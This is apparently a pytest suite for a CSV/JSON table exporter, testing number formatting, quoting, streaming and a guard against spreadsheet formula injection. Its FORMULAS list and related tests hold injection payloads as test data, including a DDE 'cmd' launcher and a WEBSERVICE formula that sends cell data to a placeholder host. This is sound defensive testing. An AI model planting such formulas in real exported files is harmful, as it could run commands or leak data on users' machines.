"""Tables as text for machines and spreadsheets."""

import csv
import io
import json
import math
import re
import unicodedata
from collections.abc import Callable, Iterator
from functools import partial

import numpy as np
import pandas as pd
import pytest
from frames_written import to_csv, to_json
from hypothesis import given, strategies as st

from reconcile.columnar import Cells, Columns
from reconcile.export import plain_text
from reconcile.export.plain_text import (
    PIECE,
    Listing,
    csv_pieces,
    json_pieces,
    listed,
    listed_rows,
    plain,
)
from reconcile.storage.formula_guard import harmless

TABLE = pd.DataFrame(
    {
        "source": ["NIS", "Source A", None, "국가정보원"],
        "as_of": ["2025-01-13", "2025-01", "", "2025-01-13/2025-01-20"],
        "lower": [11000.0, 10000.5, np.nan, -5.0],
        "upper": [11000.0, np.inf, -np.inf, 0.0001],
        "ties": [True, False, False, True],
        "quote": ['"about" 300, killed', "one\ntwo", np.nan, "=1+1"],
    }
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (300.0, 300),
        (-0.0, 0),
        (1.5, 1.5),
        (1e16, 1e16),
        (float("nan"), None),
        (float("inf"), None),
        (float("-inf"), None),
        (7, 7),
        (True, True),
        (None, None),
        ("", None),
        (" ", " "),
        ("300", "300"),
        (np.float64(300), 300),
        (np.float64(2.5), 2.5),
        (np.float32(np.nan), None),
        (np.int64(300), 300),
        (np.bool_(False), False),
        (np.str_("NIS"), "NIS"),
    ],
)
def test_a_cell_becomes_a_plain_value_of_pythons_own_type(value: object, expected: object) -> None:
    assert plain(value) == expected
    assert type(plain(value)) is type(expected)


@pytest.mark.parametrize("value", [["NIS"], pd.Timestamp("2025-01-13"), np.datetime64("2025"), 1j])
def test_a_cell_of_another_kind_is_refused(value: object) -> None:
    with pytest.raises(TypeError, match="neither text, a number"):
        plain(value)


def test_csv_for_machines_is_exact() -> None:
    assert to_csv(TABLE).decode() == (
        "source,as_of,lower,upper,ties,quote\n"
        'NIS,2025-01-13,11000,11000,true,"""about"" 300, killed"\n'
        'Source A,2025-01,10000.5,,false,"one\ntwo"\n'
        ",,,,false,\n"
        "국가정보원,2025-01-13/2025-01-20,-5,0.0001,true,=1+1\n"
    )


def test_csv_for_spreadsheets_has_a_mark_their_line_ends_and_no_formulas() -> None:
    assert to_csv(TABLE, spreadsheet=True).decode() == (
        "\ufeffsource,as_of,lower,upper,ties,quote\r\n"
        'NIS,2025-01-13,11000,11000,true,"""about"" 300, killed"\r\n'
        'Source A,2025-01,10000.5,,false,"one\ntwo"\r\n'
        ",,,,false,\r\n"
        "국가정보원,2025-01-13/2025-01-20,-5,0.0001,true,'=1+1\r\n"
    )


def test_json_has_an_object_a_line() -> None:
    assert to_json(TABLE.iloc[[0, 2, 3]]).decode() == (
        "[\n"
        '{"source":"NIS","as_of":"2025-01-13","lower":11000,"upper":11000,"ties":true,'
        '"quote":"\\"about\\" 300, killed"},\n'
        '{"source":null,"as_of":null,"lower":null,"upper":null,"ties":false,"quote":null},\n'
        '{"source":"국가정보원","as_of":"2025-01-13/2025-01-20","lower":-5,"upper":0.0001,'
        '"ties":true,"quote":"=1+1"}\n'
        "]\n"
    )


def test_a_table_without_rows_is_a_header_or_an_empty_array() -> None:
    empty = TABLE.iloc[:0]
    assert to_csv(empty) == b"source,as_of,lower,upper,ties,quote\n"
    assert to_json(empty) == b"[]\n"


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (0.0001, "0.0001"),
        (0.00001, "0.00001"),
        (-1.25e-7, "-0.000000125"),
        (0.1 + 0.2, "0.30000000000000004"),
        (1 / 3, "0.3333333333333333"),
        (999999999999.0, "999999999999"),
        (9999999999999998.0, "9999999999999998"),
        (1e16, "1e+16"),
    ],
)
def test_a_float_is_its_shortest_form_without_exponent(number: float, text: str) -> None:
    frame = pd.DataFrame({"n": [number]})
    assert to_csv(frame).decode() == to_csv(frame, spreadsheet=True).decode()[1:].replace("\r", "")
    assert to_csv(frame).decode() == f"n\n{text}\n"


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_float_is_read_back_as_the_same_float(number: float) -> None:
    text = to_csv(pd.DataFrame({"n": [number]})).decode().split()[1]
    assert float(text) == number
    assert "e" not in text or abs(number) >= 1e16
    assert json.loads(to_json(pd.DataFrame({"n": [number]})))[0]["n"] == number


def test_columns_of_mixed_cells_keep_truth_values_and_numbers_apart() -> None:
    frame = pd.DataFrame({"x": pd.Series([True, 1, 1.0, "1", "True", None], dtype=object)})
    assert to_csv(frame) == b'x\ntrue\n1\n1\n1\nTrue\n""\n'
    values = [row["x"] for row in json.loads(to_json(frame))]
    assert [(value, type(value)) for value in values] == [
        (True, bool),
        (1, int),
        (1, int),
        ("1", str),
        ("True", str),
        (None, type(None)),
    ]


FORMULAS = [
    "=1+1",
    "+A1",
    "-A1",
    "@SUM(A1)",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u3000 \u200b@x",
    "\x00=1+1",
    "\tkilled",
    "\rkilled",
    "\nkilled",
    "-1+cmd|' /C calc'!A0",
    "-5,00",
    "+3 killed",
    "--5",
    "-",
    "+1,20,000",
    "-٣",
    " -5",
]
SAFE = [
    "-5",
    "+3.2",
    "-0",
    "+1,200.5",
    "-12000",
    "300",
    "killed=300",
    "~300",
    ">3,000",
    "<=500",
    "−5",
    "– 300",
    "10,000-12,000",
    "NIS",
    " killed",
    "|",
    "%",
    "",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == "'" + text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a;=1+1;b", "a;'=1+1;b"),
        ("a; =1+1", "a;' =1+1"),
        ("a\t+1+x", "a\t'+1+x"),
        ("-5\n=1+1", "'-5\n'=1+1"),
        ('-1\n&WEBSERVICE("http://x/"&A1)', '\'-1\n&WEBSERVICE("http://x/"&A1)'),
        ("+1\t&HYPERLINK(A1)", "'+1\t&HYPERLINK(A1)"),
        ("a\r\n@SUM(A1)", "a\r\n'@SUM(A1)"),
        ('he said "=1+1"', 'he said "\'=1+1"'),
        ('x;"-cmd"', 'x;"\'-cmd"'),
        ("\t=1+1", "'\t'=1+1"),
        ("a;＝1", "a;'＝1"),
        ("a;-5; +1,200.5;b", "a;-5; +1,200.5;b"),
        ("NIS; a-b = c", "NIS; a-b = c"),
    ],
)
def test_what_would_be_a_cell_elsewhere_is_guarded_as_one(text: str, shown: str) -> None:
    assert harmless(text) == shown


@pytest.mark.parametrize("text", SAFE)
def test_text_that_would_not_run_is_left_alone(text: str) -> None:
    assert harmless(text) == text


@given(st.text(alphabet="=+-@＝＠ \t\r\n\u00a0\ufeff'\";0123456789.,x", max_size=10))
def test_no_text_runs_however_it_is_parted(text: str) -> None:
    shown = harmless(text)
    assert shown.replace("'", "") == text.replace("'", "")
    assert shown[:1] not in ("\t", "\r", "\n")
    for part in re.split('[;\t\r\n"]', shown):
        start = unicodedata.normalize("NFKC", part).lstrip("\ufeff \t\r\n")[:1]
        if start and start in "=+-@":
            assert math.isfinite(float(part.replace(",", "")))  # what does not run is a number


def test_only_text_is_made_harmless_and_headings_are_text() -> None:
    frame = pd.DataFrame(
        {
            "=cmd": pd.Series([-5, "-5", "-5x", -2.5], dtype=object),
            "+n": [-5.0, -1e-7, np.nan, -3.0],
        }
    )
    assert to_csv(frame, spreadsheet=True).decode("utf-8-sig") == (
        "'=cmd,'+n\r\n-5,-5\r\n-5,-0.0000001\r\n'-5x,\r\n-2.5,-3\r\n"
    )
    assert to_csv(frame).decode().startswith("=cmd,+n\n-5,-5\n-5,-0.0000001\n-5x,\n")


@pytest.mark.parametrize("text", ["a;b", "a\tb", "a\rb", "a\nb", "a\r\nb", 'a"b', "a,b"])
def test_every_character_that_may_part_cells_or_lines_is_within_quotes(text: str) -> None:
    frame = pd.DataFrame({"x": [text]})
    quoted = '"' + text.replace('"', '""') + '"'
    assert to_csv(frame).decode() == f"x\n{quoted}\n"
    assert to_csv(frame, spreadsheet=True).decode() == f"\ufeffx\r\n{quoted}\r\n"


CELLS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)


@given(st.lists(st.tuples(CELLS, CELLS), max_size=5))
def test_any_text_is_read_back_as_it_was(rows: list[tuple[str, str]]) -> None:
    frame = pd.DataFrame(rows, columns=["a", "b"], dtype=object)
    read = list(csv.reader(io.StringIO(to_csv(frame).decode(), newline=""), strict=True))
    assert read == [["a", "b"], *map(list, rows)]
    absent = [{"a": a or None, "b": b or None} for a, b in rows]
    assert json.loads(to_json(frame)) == absent


@given(st.lists(CELLS, min_size=1, max_size=5))
def test_a_single_column_loses_no_row(cells: list[str]) -> None:
    frame = pd.DataFrame({"a": cells}, dtype=object)
    read = list(csv.reader(io.StringIO(to_csv(frame).decode(), newline=""), strict=True))
    assert read == [["a"], *([cell] for cell in cells)]


def test_half_a_surrogate_pair_is_replaced() -> None:
    frame = pd.DataFrame({"x": ["a\ud800b", "é"]}, dtype=object)
    assert to_csv(frame).decode() == "x\na\ufffdb\né\n"
    assert json.loads(to_json(frame)) == [{"x": "a\ufffdb"}, {"x": "é"}]


def test_two_columns_of_one_name_are_written_to_csv_and_refused_for_json() -> None:
    frame = pd.DataFrame([["1", 2.0]], columns=["notes", "notes"])
    assert to_csv(frame) == b"notes,notes\n1,2\n"
    with pytest.raises(ValueError, match="two columns have one name: notes, notes"):
        to_json(frame)


def test_a_table_longer_than_is_held_at_once_comes_out_whole_and_in_order() -> None:
    rows = 120_001
    frame = pd.DataFrame({"n": np.arange(rows, dtype=float)}).set_index(np.zeros(rows))
    assert to_csv(frame) == ("n\n" + "".join(f"{n}\n" for n in range(rows))).encode()
    assert [row["n"] for row in json.loads(to_json(frame))] == list(range(rows))


@pytest.mark.parametrize("pieces_of", [csv_pieces, json_pieces])
def test_a_table_is_written_while_it_is_made(
    pieces_of: Callable[[Listing], Iterator[bytes]],
) -> None:
    made = []

    def rows() -> Iterator[tuple[int]]:
        for n in range(5 * PIECE):
            made.append(n)
            yield (n,)

    written = 0
    for piece in pieces_of(listed_rows(["n"], rows())):
        written += piece.count(b"\n")
        assert len(made) <= written + 1
    assert len(made) == 5 * PIECE


ROWS = st.tuples(
    st.sampled_from(["", "a", "-1", "=1+1", 'b, "c"', "d;e\nf", "\ud800"]),
    st.floats() | st.sampled_from([-0.0, 0.5, 3.0, 1e-7, 1e15, 1e16, 1e17]),
    st.integers(-(2**40), 2**40),
    st.booleans(),
)


@pytest.mark.parametrize(
    "written", [csv_pieces, partial(csv_pieces, spreadsheet=True), json_pieces]
)
@given(rows=st.lists(ROWS, min_size=1, max_size=12), piece=st.integers(1, 5))
def test_whole_columns_are_written_as_their_cells_are_one_by_one(
    written: Callable[[Listing], Iterator[bytes]],
    rows: list[tuple[str, float, int, bool]],
    piece: int,
) -> None:
    names = ("text", "real", "whole", "truth %s")
    text, *others = zip(*rows, strict=True)
    cells = [np.array(each, dtype) for each, dtype in zip(others, (float, int, bool), strict=True)]
    table = Columns(dict(zip(names, (Cells.of(text), *cells), strict=True)))
    mixed = listed_rows(names, [*rows, (None,) * 4])  # no column is of one kind
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(plain_text, "PIECE", piece)
        whole = b"".join(written(listed(table)))
    assert b"".join(written(mixed)).startswith(whole.removesuffix(b"\n]\n"))


def test_some_columns_are_written_in_the_order_that_is_asked_for() -> None:
    table = listed_rows(["a", "b", "c"], iter([(1, 2, 3), (4, 5, 6)]))
    assert b"".join(csv_pieces(table.only(["c", "a"]))) == b"c,a\n3,1\n6,4\n"


def test_the_table_is_not_changed() -> None:
    before = TABLE.copy(deep=True)
    to_csv(TABLE, spreadsheet=True)
    to_json(TABLE)
    pd.testing.assert_frame_equal(TABLE, before)
